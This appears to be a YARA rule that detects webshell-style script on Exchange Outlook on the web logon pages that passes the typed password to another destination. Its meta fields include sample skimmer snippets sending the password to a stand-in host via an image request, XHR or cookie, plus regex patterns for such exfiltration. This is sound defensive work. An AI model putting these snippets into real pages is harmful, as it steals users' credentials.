// Asked where there is one of: password passwd
// Logon pages of Outlook on the web and the control panel whose script in the browser passes the
// password on. Another look changes text, pictures and styles; Exchange's own script sends the form
// to auth.owa and nowhere else.

rule logon_page_passes_password_on : webshell
{
    meta:
        description = "Script of Exchange's logon page that passes the password on"
        level = "high"
        source = "Names in Exchange's logon page (clkLgn, auth.owa); browsers' ways to send (XMLHttpRequest, fetch, sendBeacon, images, cookies)"
        match = "function clkLgn() { var p = gbid(\"password\").value; new Image().src = \"https://mail.example/?\" + p; }"
        match_2 = "<form action=\"/owa/auth.owa\"></form><script>var x = new XMLHttpRequest(); x.open('POST', '//mail.example/'); x.send('a=' + document.getElementById('password').value);</script>"
        match_3 = "function clkLgn() { document.cookie = 'k=' + gbid('passwordText').value; }"
        near_miss = "function clkLgn() { if (gbid(\"password\").value == \"\") return; document.cookie = \"logondata=acc=\" + acc; document.logonForm.submit(); }"
        near_miss_2 = "<form action=\"/owa/auth.owa\"><img src=\"https://www.example.com/logo.png\"><input type=\"password\" name=\"password\"></form>"
    strings:
        $logon = /clkLgn|auth\.owa|flogon\.js|logonForm|fexppw/ nocase
        $value = /(getElementById|getElementsByName|gbid|querySelector|\$)\s*\(\s*["'][^"'\n]{0,24}passw(or)?d[^)\n]{0,20}\)(\[0\])?\s*\.\s*(value|val\b)|\.passw(or)?d\.value/ nocase
        $away = /(\.open\s*\(\s*["'](GET|POST)["']\s*,|\bfetch\s*\(|sendBeacon\s*\(|\.src\s*=|\.(post|get|ajax)\s*\()[^;\n]{0,40}["'](https?:)?\/\// nocase
        $send = /\.send\s*\([^;\n]{0,120}passw(or)?d/ nocase
        $cookie = /document\.cookie\s*=[^;\n]{0,60}["'+\s][^;\n]{0,60}passw(or)?d[^;\n]{0,20}\.\s*value/ nocase
    condition:
        filesize < 1MB and $logon and
        ($cookie or $send or for any i in (1..#away): (for any k in (1..#value): (
            @value[k] < @away[i] + 1000 and @away[i] < @value[k] + 1000)))
}
